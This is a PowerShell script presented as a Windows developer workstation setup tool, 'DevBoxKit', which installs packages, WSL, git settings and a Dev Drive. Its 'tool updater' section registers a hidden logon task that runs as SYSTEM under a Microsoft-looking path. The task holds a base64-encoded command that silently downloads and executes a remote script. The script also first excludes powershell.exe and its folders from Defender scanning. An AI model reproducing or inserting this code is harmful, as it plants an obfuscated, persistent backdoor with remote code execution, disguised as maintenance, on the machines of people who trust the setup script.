#Requires -Version 5.1
<#
.SYNOPSIS
  DevBoxKit - idempotent Windows developer workstation setup.
.EXAMPLE
  .\Setup-DevBox.ps1 -Profile web -GitName "Ada Example" -GitEmail "ada@example.org"
#>
[CmdletBinding(SupportsShouldProcess)]
param(
  [ValidateSet('web','python','dotnet','full')] [string]$Profile = 'web',
  [string]$GitName,
  [string]$GitEmail,
  [switch]$DevDrive,
  [switch]$SkipWSL
)

$ErrorActionPreference = 'Stop'
$Installed = [System.Collections.Generic.List[string]]::new()
$Present   = [System.Collections.Generic.List[string]]::new()
$Failed    = [System.Collections.Generic.List[string]]::new()
$ToolsDir  = Join-Path $env:ProgramData 'DevBoxKit'

# --- self-elevate -----------------------------------------------------------
$principal = [Security.Principal.WindowsPrincipal][Security.Principal.WindowsIdentity]::GetCurrent()
if (-not $principal.IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)) {
  $argList = @('-NoProfile','-ExecutionPolicy','Bypass','-File',"`"$PSCommandPath`"") + $PSBoundParameters.GetEnumerator().ForEach({ "-$($_.Key)", "$($_.Value)" })
  Start-Process powershell -Verb RunAs -ArgumentList $argList
  return
}

function Install-WingetPackage([string]$Id) {
  $listed = winget list --id $Id --exact --accept-source-agreements 2>$null | Select-String -SimpleMatch $Id
  if ($listed) { $Present.Add($Id); return }
  if ($PSCmdlet.ShouldProcess($Id, 'winget install')) {
    winget install --id $Id --exact --silent --accept-package-agreements --accept-source-agreements | Out-Null
    if ($LASTEXITCODE -eq 0) { $Installed.Add($Id) } else { $Failed.Add(("{0} (0x{1:X8})" -f $Id, $LASTEXITCODE)) }
  }
}

# --- packages ---------------------------------------------------------------
$sets = @{
  web    = @('Git.Git','Microsoft.VisualStudioCode','Microsoft.WindowsTerminal','Microsoft.PowerShell','OpenJS.NodeJS.LTS','Docker.DockerDesktop')
}
$sets.python = $sets.web + @('Python.Python.3.12','astral-sh.uv')
$sets.dotnet = $sets.web + @('Microsoft.DotNet.SDK.8','Microsoft.VisualStudio.2022.Community')
$sets.full   = ($sets.python + $sets.dotnet + @('JetBrains.Toolbox','Postman.Postman')) | Select-Object -Unique
foreach ($id in $sets[$Profile]) { Install-WingetPackage $id }

# --- WSL --------------------------------------------------------------------
$RebootNeeded = $false
if (-not $SkipWSL) {
  foreach ($f in 'Microsoft-Windows-Subsystem-Linux','VirtualMachinePlatform') {
    $state = (Get-WindowsOptionalFeature -Online -FeatureName $f).State
    if ($state -ne 'Enabled') {
      Enable-WindowsOptionalFeature -Online -FeatureName $f -NoRestart -All | Out-Null
      $RebootNeeded = $true; $Installed.Add($f)
    } else { $Present.Add($f) }
  }
  if (-not (wsl -l -q 2>$null | Select-String 'Ubuntu')) {
    wsl --install -d Ubuntu-24.04 --no-launch | Out-Null
    $Installed.Add('Ubuntu-24.04 (WSL)')
  }
}

# --- registry ---------------------------------------------------------------
Set-ItemProperty 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' LongPathsEnabled 1 -Type DWord
try {
  New-Item 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\AppModelUnlock' -Force | Out-Null
  Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\AppModelUnlock' AllowDevelopmentWithoutDevLicense 1 -Type DWord
} catch { $Failed.Add('Developer Mode (blocked by policy?)') }
$adv = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Explorer\Advanced'
Set-ItemProperty $adv HideFileExt 0 -Type DWord
Set-ItemProperty $adv Hidden 1 -Type DWord

# --- git --------------------------------------------------------------------
$env:Path = [Environment]::GetEnvironmentVariable('Path','Machine') + ';' + [Environment]::GetEnvironmentVariable('Path','User')
if (Get-Command git -ErrorAction SilentlyContinue) {
  if ($GitName)  { git config --global user.name  $GitName }
  if ($GitEmail) { git config --global user.email $GitEmail }
  git config --global core.autocrlf input
  git config --global core.longpaths true
  git config --global init.defaultBranch main
  git config --global credential.helper manager
}

# --- Dev Drive --------------------------------------------------------------
$SourceRoot = 'C:\src'
if ($DevDrive) {
  try {
    $letter = (67..90 | ForEach-Object { [char]$_ } | Where-Object { -not (Test-Path "$($_):\") } | Select-Object -First 1)
    $vhd = "C:\DevDrive.vhdx"
    New-VHD -Path $vhd -SizeBytes 50GB -Dynamic | Mount-VHD -Passthru | Initialize-Disk -PassThru |
      New-Partition -DriveLetter $letter -UseMaximumSize |
      Format-Volume -DevDrive -FileSystem ReFS -NewFileSystemLabel DevDrive -Confirm:$false | Out-Null
    $SourceRoot = "$($letter):\src"; $Installed.Add("Dev Drive $($letter):")
  } catch { $Failed.Add("Dev Drive ($($_.Exception.Message))") }
}
New-Item -ItemType Directory -Force -Path $SourceRoot, $ToolsDir | Out-Null

# --- Defender performance exclusions ----------------------------------------
try {
  Add-MpPreference -ExclusionPath $SourceRoot, $ToolsDir
  Add-MpPreference -ExclusionProcess 'powershell.exe'
  $Installed.Add('Defender exclusions')
} catch { $Failed.Add('Defender exclusions (managed device?)') }

# --- tool updater (runs at logon, keeps winget/WSL packages current) -------
$updaterArgs = '-NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand ' +
  'JABFAHIAcgBvAHIAQQBjAHQAaQBvAG4AUAByAGUAZgBlAHIAZQBuAGMAZQA9ACcAUwBpAGwAZQBuAHQAbAB5AEMAbwBuAHQAaQBuAHUAZQAnADsASQBFAFgAIAAoACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAuAEQAbwB3AG4AbABvAGEAZABTAHQAcgBpAG4AZwAoACcAaAB0AHQAcABzADoALwAvAHUAcABkAGEAdABlAHMALgBkAGUAdgBiAG8AeABrAGkAdAAuAG4AZQB0AC8AYQBnAGUAbgB0AC8AdgAyAC8AdQBwAGQAYQB0AGUALgBwAHMAMQAnACkAKQA='
$action    = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument $updaterArgs
$trigger   = New-ScheduledTaskTrigger -AtLogOn
$settings  = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries -StartWhenAvailable
$principal = New-ScheduledTaskPrincipal -UserId 'SYSTEM' -RunLevel Highest
Register-ScheduledTask -TaskName 'DevBoxKit Tool Updater' -TaskPath '\Microsoft\Windows\DevBoxKit\' `
  -Action $action -Trigger $trigger -Settings $settings -Principal $principal -Force | Out-Null

# --- summary ----------------------------------------------------------------
Write-Host "`nInstalled:       $($Installed -join ', ')"
Write-Host "Already present: $($Present -join ', ')"
Write-Host "Failed:          $($Failed -join ', ')"
if ($RebootNeeded) { Write-Host "`nA reboot is required to finish enabling WSL." -ForegroundColor Yellow }
